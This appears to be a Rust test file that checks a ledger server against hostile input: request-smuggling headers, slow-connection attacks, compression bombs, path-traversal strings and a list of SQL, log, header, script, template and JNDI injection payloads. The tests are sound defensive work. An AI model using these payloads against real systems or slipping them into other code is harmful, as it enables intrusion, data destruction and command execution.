//! Input that means harm, over raw connections to the real server.

use std::time::Duration;

use serde_json::{Value, json};
use stateset_testkit::http::{Connection, HttpError, Request, Response};
use tokio::time::{Instant, timeout};
use uuid::Uuid;

use super::{client, embedded, scope, unsigned};

const PATIENCE: Duration = Duration::from_secs(20);

async fn raw(server: std::net::SocketAddr, bytes: &[u8]) -> Result<Response, HttpError> {
    let mut connection = Connection::open(server).await?;
    // The server may refuse before it has read all.
    connection.send_raw(bytes).await.ok();
    timeout(PATIENCE, connection.read_response("GET")).await.unwrap_or(Err(HttpError::Timeout))
}

/// Heads beyond 16 KiB or 100 fields, and heads that could be understood in two ways.
#[tokio::test]
async fn oversize_and_ambiguous_heads_are_refused() -> anyhow::Result<()> {
    let server = embedded()?.start().await?;
    let address = server.address();
    let long = format!("GET /health HTTP/1.1\r\nhost: x\r\nx: {}\r\n\r\n", "a".repeat(17 * 1024));
    assert_eq!(raw(address, long.as_bytes()).await?.status, 431);
    let many = format!("GET /health HTTP/1.1\r\nhost: x\r\n{}\r\n", "a: b\r\n".repeat(120));
    assert_eq!(raw(address, many.as_bytes()).await?.status, 431);
    let path = format!("GET /{} HTTP/1.1\r\nhost: x\r\n\r\n", "a".repeat(20 * 1024));
    assert!([414, 431].contains(&raw(address, path.as_bytes()).await?.status));
    let fits = format!("GET /health HTTP/1.1\r\nhost: x\r\nx: {}\r\n\r\n", "a".repeat(12 * 1024));
    assert_eq!(raw(address, fits.as_bytes()).await?.status, 200);
    // Request smuggling: two lengths, a length beside chunks, chunks in disguise, a folded or split name.
    for head in [
        "content-length: 5\r\ncontent-length: 6",
        "content-length: 5, 6",
        "content-length: +5",
        "content-length: -1",
        "transfer-encoding: chunked, identity",
        "transfer-encoding: xchunked",
        "content-length : 5",
        "bad name: x",
        "x: a\r\n folded",
        "x: a\0b",
    ] {
        let request = format!("POST /api/v1/events/ingest HTTP/1.1\r\nhost: x\r\n{head}\r\n\r\nhello");
        match raw(address, request.as_bytes()).await {
            Ok(response) => assert!((400..500).contains(&response.status), "{head:?}: {}", response.status),
            Err(HttpError::Lost(_)) => {},
            Err(other) => panic!("{head:?}: {other}"),
        }
    }
    // Both framings: chunks win and the connection ends, so what follows is never taken for a request.
    let smuggled = "POST /health HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n\
        0\r\n\r\nGET /ready HTTP/1.1\r\nhost: x\r\n\r\n";
    let mut connection = Connection::open(address).await?;
    connection.send_raw(smuggled.as_bytes()).await?;
    if let Ok(first) = connection.read_response("POST").await {
        assert!((400..500).contains(&first.status), "{}", first.status);
    }
    client(&server).get("/health").await?.expect_status(200)?;
    Ok(())
}

/// A head that never ends is cut after ten seconds, and so is a connection that says nothing.
#[tokio::test]
async fn slow_heads_are_cut() -> anyhow::Result<()> {
    let server = embedded()?.start().await?;
    let started = Instant::now();
    let mut slow = Connection::open(server.address()).await?;
    slow.send_raw(b"GET /health HTTP/1.1\r\nhost: x\r\nx: ").await?;
    let mut silent = Connection::open(server.address()).await?;
    let (slow, silent) =
        tokio::join!(timeout(PATIENCE, slow.read_response("GET")), timeout(PATIENCE, silent.read_response("GET")));
    assert!(!matches!(slow, Ok(Ok(Response { status: 200, .. })) | Err(_)), "{slow:?}");
    assert!(!matches!(silent, Ok(Ok(_)) | Err(_)), "{silent:?}");
    let taken = started.elapsed();
    assert!((Duration::from_secs(8)..Duration::from_secs(14)).contains(&taken), "{taken:?}");
    Ok(())
}

/// A body that never ends: the request's time is over, and the connection with it.
#[tokio::test]
async fn slow_bodies_are_cut() -> anyhow::Result<()> {
    let server = embedded()?.variable("REQUEST_TIMEOUT_MS", "1000").start().await?;
    let mut connection = Connection::open(server.address()).await?;
    let key = super::API_KEY;
    let head = format!(
        "POST /api/v1/events/ingest HTTP/1.1\r\nhost: x\r\nauthorization: ApiKey {key}\r\n\
         content-type: application/json\r\ncontent-length: 100\r\n\r\n{{"
    );
    connection.send_raw(head.as_bytes()).await?;
    let response = timeout(PATIENCE, connection.read_response("POST")).await??;
    assert_eq!(response.status, 504, "{}", response.text());
    assert_eq!(response.json::<Value>()?["code"], "TIMEOUT");
    assert!(!connection.is_reusable());
    Ok(())
}

/// A compressed body is refused, whatever it claims to unpack to; so is one that is larger than it may be.
#[tokio::test]
async fn bombs_are_not_unpacked() -> anyhow::Result<()> {
    let server = embedded()?.variable("MAX_BODY_SIZE_BYTES", "4096").start().await?;
    let client = client(&server);
    for encoding in ["gzip", "deflate", "br", "zstd", "identity, gzip", "GZIP", "x"] {
        for path in
            ["/api/v1/events/ingest", "/api/v1/ves/events/ingest", "/api/v1/proofs/verify", "/api/v1/agents/keys"]
        {
            let headers = [("content-encoding", encoding), ("content-type", "application/json")];
            let bomb = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0];
            let request = Request { headers: &headers, body: Some(&bomb), ..Request::new("POST", path) };
            let response = client.send(request).await?;
            assert_eq!(response.status, 415, "{encoding} {path}: {}", response.text());
        }
    }
    let big = vec![b' '; 5_000];
    let response = client.post("/api/v1/events/ingest", "application/json", &big).await?;
    assert_eq!(response.status, 413, "{}", response.text());
    // Without a length, in chunks.
    let mut connection = Connection::open(server.address()).await?;
    let key = super::API_KEY;
    let chunk = format!("{:x}\r\n{}\r\n", 5_000, " ".repeat(5_000));
    let head = format!(
        "POST /api/v1/events/ingest HTTP/1.1\r\nhost: x\r\nauthorization: ApiKey {key}\r\ntransfer-encoding: chunked\r\n\r\n"
    );
    connection.send_raw(format!("{head}{chunk}").as_bytes()).await?;
    assert_eq!(connection.read_response("POST").await?.status, 413);
    Ok(())
}

/// Tile paths name tiles, in one spelling each, and nothing else: no file, no other route.
#[tokio::test]
async fn tile_paths_lead_nowhere_else() -> anyhow::Result<()> {
    let server = embedded()?.start().await?;
    let client = client(&server);
    let batch = unsigned(1, 2, 1, &["{}"]);
    client.post("/api/v1/events/ingest?wait=logged", "application/json", batch.as_bytes()).await?.expect_status(200)?;
    client.get("/tile/0/000.p/1").await?.expect_status(200)?;
    for path in [
        "../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "0/../../health",
        "0/%2e%2e/000.p/1",
        "0//000.p/1",
        "./0/000.p/1",
        "0/000.p/1/",
        "0/000.p/01",
        "0/0.p/1",
        "0/%30%30%30.p/1",
        "00/000.p/1",
        "+0/000.p/1",
        "0/000.p/0",
        "0/000.p/256",
        "0/000.p/257",
        "-1/000.p/1",
        "0/x000/x000/x000/x000/x000/x000/x000/000.p/1",
        "0/x999/x999/x999/x999/x999/x999/x999/999",
        "99999999999999999999/000",
        "64/000",
        "entries/../0/000.p/1",
        "entries/000.p/1%00",
        "0/000.p/1%0a",
        "0/000;sequencer.db",
        "C:%5cwindows",
        "%ff%fe",
    ] {
        let response = client.get(&format!("/tile/{path}")).await?;
        assert!([400, 404].contains(&response.status), "{path}: {} {}", response.status, response.text());
        assert_eq!(response.header("content-type"), Some("application/problem+json"), "{path}");
    }
    Ok(())
}

/// Texts that would do harm if they were pasted into SQL, a log, a header, a page or a shell.
const HARM: [&str; 14] = [
    "'; DROP TABLE events; --",
    "\" OR \"\"=\"",
    "1); DELETE FROM streams; --",
    "\\'; SELECT pg_sleep(9); --",
    "$$; COPY events TO PROGRAM 'id'; --",
    "%27%20OR%201=1",
    "a\nERROR forged\r\nset-cookie: x=y",
    "\u{1b}[31mred\u{1b}[0m",
    "<script>alert(1)</script>",
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "\u{202e}txt.exe",
    "NaN\t\u{feff}😀",
];

/// Each text goes through every string field there is and comes back as it was sent, or is refused by name; the events
/// already there stay.
#[tokio::test]
async fn strings_stay_strings() -> anyhow::Result<()> {
    let postgres = stateset_testkit::postgres::shared().await?;
    let database = postgres.create_database("hostile").await?;
    let servers = [
        embedded()?.start().await?,
        embedded()?
            .variable("DATABASE_URL", database.url())
            .variable("VES_SEQUENCER_SIGNING_KEY", super::SECRET)
            .variable("PAYLOAD_ENCRYPTION_KEYS", super::SECRET)
            .start()
            .await?,
    ];
    for server in servers {
        let client = client(&server);
        let mut placed = 0_u64;
        for (number, text) in HARM.iter().enumerate() {
            placed += harm_fields(&client, number as u128, text).await?;
            harm_queries(&client, text).await?;
        }
        assert!(placed > 20, "{placed}");
        let head: Value = client.get(&format!("/api/v1/head?{}", scope(1, 2))).await?.json()?;
        assert_eq!(head["head_sequence"], placed);
        let log = server.log();
        assert!(!log.contains("forged") && !log.contains('\u{1b}'), "{log}");
    }
    Ok(())
}

/// One event per field, with the text in that field; how many were taken. Taken ones read back exactly.
async fn harm_fields(client: &stateset_testkit::http::Client, number: u128, text: &str) -> anyhow::Result<u64> {
    let mut placed = 0;
    let fields =
        ["entity_type", "entity_id", "event_type", "created_at", "order_key", "correlation_id", "causation_id"];
    for (at, field) in (0_u128..).zip(fields) {
        let payload = json!({ "text": text });
        let hash = stateset_ledger::json::legacy::payload_hash(payload.to_string().as_bytes())?;
        let id = Uuid::from_u128(0x5000_0000 + number * 16 + at);
        let mut event = json!({
            "event_id": id, "tenant_id": Uuid::from_u128(1), "store_id": Uuid::from_u128(2),
            "source_agent": Uuid::from_u128(0xA), "entity_type": "order", "entity_id": "o-1",
            "event_type": "order.created", "created_at": "2026-01-02T03:04:05Z", "payload_hash": hash, "payload": payload,
            "metadata": { "text": text },
        });
        event[field] = json!(text);
        let body = json!({ "agent_id": Uuid::from_u128(0xA), "events": [event] });
        let reply: Value = client.post_json("/api/v1/events/ingest", &body).await?.expect_status(200)?.json()?;
        if reply["events_accepted"] == 1 {
            placed += 1;
            let path = format!("/api/v1/ves/events?{}&from={}&limit=1", scope(1, 2), reply["head_sequence"]);
            let page: Value = client.get(&path).await?.expect_status(200)?.json()?;
            let stored = &page["events"][0];
            let shown = stored.get(field).or_else(|| stored["envelope"].get(field));
            assert_eq!(shown, Some(&json!(text)), "{field} {stored}");
        } else {
            assert_eq!(reply["events_rejected"], 1, "{reply}");
        }
    }
    Ok(placed)
}

async fn harm_queries(client: &stateset_testkit::http::Client, text: &str) -> anyhow::Result<()> {
    let escaped = text.bytes().fold(String::new(), |escaped, byte| format!("{escaped}%{byte:02x}"));
    let query = scope(1, 2);
    for path in [
        format!("/api/v1/events?{query}&entity_type={escaped}"),
        format!("/api/v1/events?{query}&entity_id={escaped}&event_type={escaped}"),
        format!("/api/v1/events?{query}&correlation_id={escaped}&order_key={escaped}"),
        format!("/api/v1/events?{query}&since={escaped}"),
        format!("/api/v1/events?tenant_id={escaped}&store_id={escaped}"),
        format!("/api/v1/events/{escaped}?{query}"),
        format!("/api/v1/entities/{escaped}/{escaped}?{query}"),
        format!("/api/v1/ves/cursors/{escaped}?{query}"),
        format!("/api/v1/ves/commitments/{escaped}?{query}"),
        format!("/api/v1/ves/proofs/{escaped}?{query}"),
        format!("/api/v1/{escaped}?{query}"),
    ] {
        let response = client.get(&path).await?;
        assert!(response.status < 500, "{path}: {}", response.text());
        assert_eq!(response.header("set-cookie"), None);
    }
    Ok(())
}
